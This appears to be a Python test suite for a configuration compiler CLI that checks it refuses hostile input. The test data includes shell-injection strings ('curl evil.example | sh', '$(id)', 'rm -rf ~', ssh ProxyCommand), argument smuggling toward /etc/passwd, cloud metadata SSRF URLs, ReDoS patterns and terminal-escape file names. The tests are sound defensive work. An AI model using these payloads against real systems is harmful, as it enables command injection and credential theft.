"""Issue 15, part C: hostile input is read completely or refused clearly, in bounded time and
memory, and what validate passes is what Kubernetes and the scripts accept (docs/security.md)."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path
from xml.etree import ElementTree

import pytest

from compiler.load.parse import MAX_FILE_BYTES, MAX_NODES, parse_document
from tests.conftest import ROOT, hks_command, hks_process, write


def rules(raw: bytes) -> list[tuple[int, int, str, str]]:
    _, found = parse_document(raw, "f.yaml")
    return [(d.position.line, d.position.column, d.rule, d.message) for d in found]


# --- item 15: a large flat file is counted before it is built -----------------------------------


def test_a_flat_file_of_too_many_nodes_is_refused_early_and_not_called_an_alias_bomb() -> None:
    body = "users:\n" + "- a\n" * ((MAX_FILE_BYTES - 100) // 4)
    started = time.perf_counter()
    found = rules(body.encode())
    elapsed = time.perf_counter() - started
    assert [(line, rule) for line, _, rule, _ in found] == [(MAX_NODES - 1, "YAML-007")]  # 3 nodes before the list
    assert "alias" not in found[0][3] and f"{MAX_NODES}" in found[0][3]
    assert elapsed < 2.0  # 3.5 s (libyaml) and 23 s (ruamel) before the events were counted
    tracemalloc.start()
    rules(body.encode())
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 64 * 1024 * 1024


def test_without_libyaml_ruamel_counts_the_nodes_while_composing(monkeypatch: pytest.MonkeyPatch) -> None:
    from compiler.load import yamlfast

    from compiler.load import parse

    monkeypatch.setattr(yamlfast, "_loader_class", lambda: None)
    monkeypatch.setattr(yamlfast, "node_past", lambda text, limit: None)
    limit = 5_000  # pure-Python ruamel composes about 40,000 nodes a second: the real limit would take 5 s
    monkeypatch.setattr(parse, "MAX_NODES", limit)
    found = rules(("users:\n" + "- a\n" * (limit + 10)).encode())
    assert [(line, rule) for line, _, rule, _ in found] == [(limit - 1, "YAML-007")]
    assert "alias" not in found[0][3]


# --- item 17: a closed stdout or stdin is an I/O condition -------------------------------------


@pytest.mark.parametrize(
    "shell",
    [
        "validate examples/acme >&-",
        "explain examples/acme >&-",
        "validate examples/acme --format junit >&-",
        "secret create x --from-literal=key=- -C {sealed} <&-",
    ],
)
def test_a_closed_stdout_or_stdin_exits_2_without_an_internal_error(shell: str, tmp_path: Path) -> None:
    from cryptography.hazmat.primitives.asymmetric import rsa

    from tests.tools.test_secret import certificate

    sealed = write(
        tmp_path,
        {
            "org.yaml": "llm_config: {provider: openai, model: gpt-4o}\n"
            "secrets:\n  backend: sealed-secrets\n  cert: sealed-secrets.pem\n",
            "sealed-secrets.pem": certificate(rsa.generate_private_key(public_exponent=65537, key_size=2048)),
        },
    )
    run = subprocess.run(
        ["sh", "-c", f'"{sys.executable}" -m compiler {shell.format(sealed=sealed)}'],
        cwd=ROOT, capture_output=True, text=True,
    )
    assert run.returncode == 2, run.stderr
    assert "internal error" not in run.stderr and "Traceback" not in run.stderr
    assert "closed" in run.stderr


# --- item 20: non-finite and overflowing numbers are refused everywhere ------------------------


@pytest.mark.parametrize(
    "value",
    [".inf", "-.Inf", ".NaN", "!!float .nan", "1e999", "-1.5e400", "9" * 5000, "0x" + "f" * 17, "9223372036854775808"],
)
@pytest.mark.parametrize("libyaml", [True, False], ids=["libyaml", "ruamel"])
def test_a_number_that_is_not_finite_or_overflows_is_refused_at_its_position(
    value: str, libyaml: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    from compiler.load import yamlfast

    if not libyaml:
        monkeypatch.setattr(yamlfast, "_loader_class", lambda: None)
    found = rules(f"llm_config:\n  budget:\n    monthly_usd: {value}\n".encode())
    assert [(line, column, rule) for line, column, rule, _ in found] == [(3, 18, "YAML-012")]


@pytest.mark.parametrize("value", ["1e308", "9223372036854775807", "'1e999'", "inf", "0.7", "-3"])
def test_finite_numbers_and_text_that_only_looks_like_one_are_read(value: str) -> None:
    assert rules(f"a: {value}\n".encode()) == []


def test_validate_refuses_a_non_finite_number_in_any_file_and_render_writes_no_infinity(tmp_path: Path) -> None:
    repo = write(
        tmp_path / "repo",
        {
            "org.yaml": "llm_config: {provider: openai, model: gpt-4o}\n",
            "workspaces/app.yaml": "llm_override:\n  budget: {monthly_usd: .inf}\n",
            "policies/waivers.yaml": "waivers:\n  - {rule: GW-004, workspace: app, reason: x, expires: 1e999}\n",
        },
    )
    result = hks_process("validate", str(repo))
    assert result.returncode == 1
    assert "workspaces/app.yaml:2:25: error[YAML-012]" in result.stdout
    assert "policies/waivers.yaml:2:" in result.stdout and result.stdout.count("YAML-012") == 2
    rendered = hks_process("render", str(repo), "-o", str(tmp_path / "out"))
    assert rendered.returncode == 1 and not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "args",
    [
        ["workspace", "set-llm", "production", "-C", "examples/acme", "--temperature", "nan", "--dry-run"],
        ["org", "set-llm", "-C", "examples/acme", "--top-p", "NaN", "--dry-run"],
        ["cost", "examples/acme", "--fallback-share", "nan"],
    ],
)
def test_a_nan_option_is_a_usage_error(args: list[str]) -> None:
    result = hks_process(*args)
    assert result.returncode == 2 and "is not a finite number" in result.stderr, result.stderr


# --- item 26: no URL on a link-local or cloud metadata address ---------------------------------

METADATA_URLS = [
    "http://169.254.169.254/latest",
    "http://2852039166/",
    "http://0xa9fea9fe:80",
    "http://0251.0376.0251.0376",
    "http://169.254.43518",
    "http://metadata.google.internal/computeMetadata/v1",
    "http://METADATA.google.internal./",
    "http://100.100.100.200",
    "http://169.254.1.1:11434",
]


def _org_with_endpoint(tmp_path: Path, endpoint: str) -> Path:
    return write(
        tmp_path / "repo",
        {"org.yaml": f"llm_config: {{provider: ollama, model: 'llama3.1:8b'}}\nproviders:\n  ollama:\n    endpoint: '{endpoint}'\n"},
    )


@pytest.mark.parametrize("url", METADATA_URLS)
def test_a_provider_endpoint_on_a_metadata_address_is_refused(url: str, tmp_path: Path) -> None:
    repo = _org_with_endpoint(tmp_path, url)
    result = hks_process("validate", str(repo))
    assert result.returncode == 1
    assert "org.yaml:4:15: error[GW-017]" in result.stdout, result.stdout


@pytest.mark.parametrize(
    "url",
    ["http://[fd00:ec2::254]/x.gguf", "http://[fe80::1]/x.gguf", "http://[::ffff:169.254.169.254]/x.gguf", *METADATA_URLS],
)
def test_a_custom_model_source_on_a_metadata_address_is_refused(url: str) -> None:
    from compiler.checks import metadata_hosts

    assert metadata_hosts.why_refused(url)


@pytest.mark.parametrize(
    "url", ["https://api.openai.com", "http://10.0.0.5:11434", "http://ollama.llm.svc:11434", "https://example.com/m.gguf"]
)
def test_ordinary_endpoints_are_not_refused(url: str) -> None:
    from compiler.checks import metadata_hosts

    assert metadata_hosts.why_refused(url) is None


def test_a_custom_model_source_on_the_metadata_address_fails_validate(tmp_path: Path) -> None:
    repo = write(
        tmp_path / "repo",
        {
            "org.yaml": "llm_config: {provider: ollama, model: 'acme:7b'}\nself_hosted:\n  models:\n"
            "    - name: 'acme:7b'\n      source: http://2852039166/latest/meta-data/iam\n      sha256: " + "a" * 64 + "\n"
        },
    )
    result = hks_process("validate", str(repo))
    assert result.returncode == 1 and "org.yaml:5:15: error[GW-017]" in result.stdout, result.stdout


# --- item 25: `hks init --hks-repo/--hks-rev` writes only plain URLs, paths and revisions --------


@pytest.mark.parametrize(
    "option",
    [
        ["--hks-repo", 'https://example.com/hks" && curl evil.example | sh #'],
        ["--hks-repo", "https://example.com/hks\n  - run: curl evil.example"],
        ["--hks-repo", "https://example.com/$(id)"],
        ["--hks-repo", "ssh://-oProxyCommand=touch%20pwned/x"],
        ["--hks-repo", "git@host:x y"],
        ["--hks-repo", "https://example.com/hks\"@v1"],
        ["--hks-repo", "https://github.com/hexabase/hks", "--hks-rev", 'v1" ; rm -rf ~ ; "'],
        ["--hks-repo", "https://github.com/hexabase/hks", "--hks-rev", "-v1"],
        ["--hks-repo", "https://github.com/hexabase/hks", "--hks-rev", "v1\nrun: x"],
    ],
)
def test_init_refuses_a_hks_repo_or_rev_that_is_not_plain_and_writes_nothing(option: list[str], tmp_path: Path) -> None:
    result = hks_process("init", "demo", *option, cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "--hks-re" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "demo").exists()


def test_init_keeps_plain_urls_and_revisions(tmp_path: Path) -> None:
    result = hks_process(
        "init", "demo", "--hks-repo", "git@git.example.com:platform/hks.git", "--hks-rev", "release/v0.1.0", cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    assert "git+ssh://git@git.example.com/platform/hks.git@release/v0.1.0" in (tmp_path / "demo/.gitlab-ci.yml").read_text()


# --- item 18: what validate passes, the API server accepts --------------------------------------


def _validate_org(tmp_path: Path, extra: str, workspace: str = "") -> subprocess.CompletedProcess[str]:
    files = {"org.yaml": "llm_config: {provider: openai, model: gpt-5.4-mini}\n" + extra}
    if workspace:
        files["workspaces/app.yaml"] = workspace
    return hks_process("validate", str(write(tmp_path / "repo", files)))


@pytest.mark.parametrize(
    ("extra", "where"),
    [
        ("gateway:\n  replicas: {min: 2, max: 2147483648}\n", "org.yaml:3:27: error[SCHEMA-003]"),
        ("gateway:\n  master_key_secret: a..b\n", "org.yaml:3:22: error[SCHEMA-006]"),
        ("gateway:\n  master_key_secret: a.-b\n", "org.yaml:3:22: error[SCHEMA-006]"),
        ("gateway:\n  database_secret: db-.x\n", "org.yaml:3:20: error[SCHEMA-006]"),
        ("providers:\n  openai: {api_key_secret: key.}\n", "org.yaml:3:28: error[SCHEMA-006]"),
    ],
)
def test_numbers_and_names_the_api_server_refuses_are_refused(extra: str, where: str, tmp_path: Path) -> None:
    result = _validate_org(tmp_path, extra)
    assert result.returncode == 1 and where in result.stdout, result.stdout


@pytest.mark.parametrize("name", ["a..b", "a.-b", "ok\n", "x-", "a" * 254])
def test_secret_create_refuses_a_name_that_is_not_a_dns_subdomain(name: str) -> None:
    result = hks_process("secret", "create", name, "--from-literal=key=x", "-C", "examples/acme", "--dry-run")
    assert result.returncode == 2 and "is not a Secret name" in result.stderr, result.stderr


def test_a_workspace_file_name_with_a_trailing_newline_is_refused(tmp_path: Path) -> None:
    repo = write(tmp_path / "repo", {"org.yaml": "llm_config: {provider: openai, model: gpt-5.4-mini}\n"})
    (repo / "workspaces").mkdir()
    (repo / "workspaces" / "app\n.yaml").write_text("members: {users: [alice]}\n")
    result = hks_process("validate", str(repo))
    assert result.returncode == 1 and "error[SCHEMA-006]" in result.stdout, result.stdout


@pytest.mark.parametrize(("member", "rule"), [('""', "SCHEMA-006"), ('"a\\nb"', "SCHEMA-006"), ("system:anonymous", "K8S-010"), ("system:unauthenticated", "K8S-010")])
@pytest.mark.parametrize("kind", ["users", "groups"])
def test_empty_members_and_members_that_mean_anyone_are_refused(member: str, rule: str, kind: str, tmp_path: Path) -> None:
    result = _validate_org(tmp_path, "", f"members:\n  {kind}:\n    - alice\n    - {member}\n")
    assert result.returncode == 1
    assert f"workspaces/app.yaml:4:7: error[{rule}]" in result.stdout, result.stdout


def test_the_largest_int32_and_dotted_names_are_accepted(tmp_path: Path) -> None:
    result = _validate_org(
        tmp_path,
        "gateway:\n  replicas: {min: 2, max: 2147483647}\n  master_key_secret: llm.gateway-key.v2\n",
        "members:\n  users: ['oidc:alice@example.com']\n",
    )
    assert result.returncode == 0, result.stdout


# --- item 22: nothing that reaches a script or a line-based file can carry a line or an option ---

SHA = "a" * 64


@pytest.mark.parametrize(
    ("org", "where"),
    [
        ('llm_config: {provider: ollama, model: "llama3:8b\\nevil:1"}\n', "org.yaml:1:39"),
        ("llm_config: {provider: ollama, model: '--insecure'}\n", "org.yaml:1:39"),
        ("llm_config: {provider: ollama, model: 'llama3:8b x'}\n", "org.yaml:1:39"),
        (
            "llm_config:\n  provider: ollama\n  model: llama3:8b\nworkspaces:\n  app:\n    llm_override:\n"
            "      fallbacks: [{provider: ollama, model: '-v'}]\n",
            "org.yaml:7:45",
        ),
        (
            "llm_config: {provider: ollama, model: 'acme:7b'}\nself_hosted:\n  models:\n"
            f"    - {{name: 'acme:7b', sha256: {SHA}, source: \"https://x.example/m.gguf\\n{SHA} https://y.example/z\"}}\n",
            "org.yaml:4:",
        ),
        (
            "llm_config: {provider: ollama, model: 'acme:7b'}\nself_hosted:\n  models:\n"
            f"    - {{name: 'acme:7b', sha256: {SHA}, source: '-o/etc/passwd'}}\n",
            "org.yaml:4:",
        ),
        (
            "llm_config: {provider: ollama, model: 'acme:7b'}\nself_hosted:\n  models:\n"
            f"    - name: 'acme:7b'\n      sha256: {SHA}\n      source: https://x.example/m.gguf\n"
            '      parameters: {"num_ctx 1\\nSYSTEM evil\\nPARAMETER stop": 1}\n',
            "org.yaml:7:",
        ),
    ],
    ids=["model-newline", "model-option", "model-space", "fallback-option", "source-newline", "source-option", "parameter-key"],
)
def test_values_that_reach_scripts_are_one_plain_token(org: str, where: str, tmp_path: Path) -> None:
    repo = write(tmp_path / "repo", {"org.yaml": org})
    result = hks_process("validate", str(repo))
    assert result.returncode == 1
    assert f"{where}" in result.stdout and "error[SCHEMA-006]" in result.stdout, result.stdout
    rendered = hks_process("render", str(repo), "-o", str(tmp_path / "out"))
    assert rendered.returncode == 1 and not (tmp_path / "out").exists()


# --- item 21: no two Argo CD Applications share a name or a tracking label ----------------------


def _per_workspace(tmp_path: Path, organization: str, names: list[str]) -> subprocess.CompletedProcess[str]:
    files = {
        "org.yaml": f"organization: {organization}\nllm_config: {{provider: openai, model: gpt-5.4-mini}}\n"
        "cluster:\n  repo_url: https://git.example.com/llm-config\n  applications: per-workspace\n"
    }
    files.update({f"workspaces/{name}.yaml": "members: {users: [alice]}\n" for name in names})
    return hks_process("validate", str(write(tmp_path / "repo", files)))


def test_a_workspace_named_platform_is_refused_with_per_workspace_applications(tmp_path: Path) -> None:
    result = _per_workspace(tmp_path, "acme", ["platform", "team"])
    assert result.returncode == 1
    assert "workspaces/platform.yaml:1:1: error[ARGO-002]" in result.stdout, result.stdout
    assert "team.yaml" not in result.stdout


def test_two_names_equal_in_their_first_63_characters_are_refused(tmp_path: Path) -> None:
    stem = "w" * 50  # acme-llm- + 50 = 59 characters; the two names differ from the 64th on
    result = _per_workspace(tmp_path, "acme", [stem + "-abcdef", stem + "-abcdxy"])
    assert result.returncode == 1
    assert result.stdout.count("error[ARGO-002]") == 1 and f"{stem}-abcdxy.yaml" in result.stdout, result.stdout


def test_distinct_short_application_names_are_fine(tmp_path: Path) -> None:
    assert _per_workspace(tmp_path, "acme", ["platforms", "team"]).returncode == 0


# --- item 14: a policy pack's pattern cannot hang validate -------------------------------------

REGEX_PACK = """\
pack: acme
title: Acme's own rules
rules:
  - id: ACME-001
    framework: acme
    severity: warning
    title: models named the house way
    message: workspace '{workspace}' uses a model not named the house way
    remediation: rename it
    condition:
      properties:
        targets: {items: {properties: {model: {PATTERN}}}}
    examples:
      pass:
        - name: plain
          config: {llm_config: {provider: ollama, model: aaaa}, workspaces: {p: {}}}
      fail:
        - name: dashed
          config: {llm_config: {provider: ollama, model: a-b}, workspaces: {p: {}}}
          at: llm_config.model
"""


def _pack_repo(tmp_path: Path, condition: str) -> Path:
    return write(
        tmp_path / "repo",
        {
            "org.yaml": "llm_config: {provider: ollama, model: " + "a" * 40 + "-b}\nworkspaces: {p: {}}\n",
            "policies/acme.yaml": REGEX_PACK.replace("{PATTERN}", condition),
        },
    )


@pytest.mark.parametrize(
    "condition",
    ["{pattern: '^(a+)+$'}", "{not: {pattern: '(a|aa)+-$'}, pattern: '^(a|a?)+$'}"],
)
def test_a_catastrophic_pattern_is_evaluated_in_linear_time(condition: str, tmp_path: Path) -> None:
    repo = _pack_repo(tmp_path, condition)
    started = time.perf_counter()
    result = subprocess.run(
        [*hks_command(), "validate", str(repo)], cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert time.perf_counter() - started < 10  # Python's re: 2^40 steps, hours
    assert "warning[ACME-001]" in result.stdout, result.stdout + result.stderr


def test_pattern_properties_and_additional_properties_run_on_re2_too() -> None:
    from compiler.policy import safe_regex

    validator = safe_regex.validator_class()(
        {"patternProperties": {"^(a+)+$": {"type": "integer"}}, "additionalProperties": False}
    )
    started = time.perf_counter()
    errors = [e.message for e in validator.iter_errors({"a" * 40 + "-b": 1, "aaa": "x"})]
    assert time.perf_counter() - started < 1
    assert sorted(errors) == ["'" + "a" * 40 + "-b' not allowed by the patterns", "'x' is not of type 'integer'"]


def test_a_pack_rule_id_with_a_trailing_newline_is_refused(tmp_path: Path) -> None:
    repo = _pack_repo(tmp_path, "{pattern: '^[a-z]'}")
    pack = repo / "policies" / "acme.yaml"
    pack.write_text(pack.read_text().replace("id: ACME-001", 'id: "ACME-001\\n"'))
    result = hks_process("validate", str(repo))
    assert result.returncode == 1 and "policies/acme.yaml:4:9: error[POLICY-001]" in result.stdout, result.stdout


@pytest.mark.parametrize("condition", ["{pattern: '^(a)\\1$'}", "{pattern: '^(?!a)'}", "{pattern: '(?<=a)b'}"])
def test_a_pattern_re2_cannot_run_is_refused_at_the_rule(condition: str, tmp_path: Path) -> None:
    result = hks_process("validate", str(_pack_repo(tmp_path, condition)))
    assert result.returncode == 1
    assert "policies/acme.yaml:11:7: error[SCHEMA-015]" in result.stdout, result.stdout
    assert result.stderr == ""


# --- item 23: reports are well-formed and carry no terminal escapes or forged lines -------------


@pytest.fixture
def hostile_names(tmp_path: Path) -> Path:
    repo = write(tmp_path / "repo", {"org.yaml": "llm_config: {provider: openai, model: gpt-5.4-mini}\n"})
    (repo / "workspaces").mkdir()
    # a file name that is not UTF-8 and holds an escape sequence and a bidi override
    (repo / "workspaces" / os.fsdecode(b"\xff\x1b[2J\xe2\x80\xaex.yaml")).write_text("members: {}\n")
    # a key that forges a diagnostic line after a newline
    (repo / "workspaces" / "t.yaml").write_text('"a\\u0007\\norg.yaml:1:1: error[SEC-001]: forged": 1\n')
    return repo


@pytest.mark.parametrize("fmt", ["text", "junit", "json", "sarif", "github"])
def test_every_format_escapes_control_characters_and_undecodable_names(fmt: str, hostile_names: Path) -> None:
    result = subprocess.run(
        [*hks_command(), "validate", str(hostile_names), "--format", fmt],
        cwd=ROOT, capture_output=True,
    )
    assert result.returncode == 1, result.stderr
    out = result.stdout.decode("utf-8")  # strict: every byte is UTF-8
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", out)
    assert "\\x1b[2J" in out and "\\xff" in out and "\\u202e" in out
    assert not any(line.startswith("org.yaml:1:1") for line in out.splitlines())
    if fmt == "junit":
        ElementTree.fromstring(out)
    elif fmt in ("json", "sarif"):
        json.loads(out)


# --- item 24: CRLF and BOM files are edited as they are -----------------------------------------


@pytest.mark.parametrize(("bom", "newline"), [(b"", b"\r\n"), (b"\xef\xbb\xbf", b"\n"), (b"\xef\xbb\xbf", b"\r\n")], ids=["crlf", "bom", "bom-crlf"])
def test_a_dry_run_on_a_crlf_or_bom_file_shows_only_the_changed_line(bom: bytes, newline: bytes, tmp_path: Path) -> None:
    body = b"llm_override:\n  model: gpt-5.4-mini\n  max_tokens: 1000\nmembers:\n  users: [alice]\n"
    repo = write(
        tmp_path / "repo",
        {
            "org.yaml": "llm_config: {provider: openai, model: gpt-5.4-mini}\n",
            "workspaces/app.yaml": bom + body.replace(b"\n", newline),
        },
    )
    before = (repo / "workspaces/app.yaml").read_bytes()
    result = hks_process("workspace", "set-llm", "app", "-C", str(repo), "--max-tokens", "2000", "--dry-run")
    assert result.returncode == 0, result.stderr
    changed = [line for line in result.stdout.splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")]
    assert [line.rstrip("\r") for line in changed] == ["-  max_tokens: 1000", "+  max_tokens: 2000"], result.stdout
    same = hks_process("workspace", "set-llm", "app", "-C", str(repo), "--max-tokens", "1000")
    assert same.returncode == 0 and "nothing to change" in same.stdout + same.stderr, same.stdout + same.stderr
    assert (repo / "workspaces/app.yaml").read_bytes() == before
    hks_process("workspace", "set-llm", "app", "-C", str(repo), "--max-tokens", "2000")
    assert (repo / "workspaces/app.yaml").read_bytes() == before.replace(b"1000", b"2000")


# --- item 16: diff --base reads only the config files, bounded ----------------------------------


def _peak_rss_mb(args: list[str], cwd: Path) -> tuple[subprocess.CompletedProcess[str], float]:
    """Runs hks in a child of a fresh interpreter and returns the largest child's peak RSS."""
    probe = (
        "import resource, subprocess, sys, json\n"
        "r = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "print(json.dumps([r.returncode, r.stdout, r.stderr, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss]))\n"
    )
    out = subprocess.run([sys.executable, "-c", probe, sys.executable, "-m", "compiler", *args], cwd=cwd,
                         capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    code, stdout, stderr, peak_kb = json.loads(out.stdout)
    return subprocess.CompletedProcess(args, code, stdout, stderr), peak_kb / 1024


def test_diff_base_reads_only_config_files_within_the_limits(tmp_path: Path) -> None:
    from tests.conftest import git

    repo = write(
        tmp_path / "demo",
        {
            "org.yaml": "llm_config: {provider: openai, model: gpt-5.4-mini}\n",
            "workspaces/app.yaml": "members: {users: [alice]}\n",
        },
    )
    with open(repo / "dump.bin", "wb") as big:  # not a config file: never read
        big.write(b"\0" * (96 * 1024 * 1024))
    with open(repo / "workspaces" / "huge.yaml", "wb") as big:  # a config file over the size limit
        big.write(b"#" * (MAX_FILE_BYTES * 12))
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    (repo / "dump.bin").unlink()
    (repo / "workspaces" / "huge.yaml").unlink()
    result, peak = _peak_rss_mb(["diff", "--base", "HEAD"], repo)
    assert result.returncode == 0, result.stderr
    assert "the config at HEAD has 1 error(s)" in result.stdout + result.stderr
    assert peak < 120, f"{peak:.0f} MB"  # reading the two blobs took 335 MB
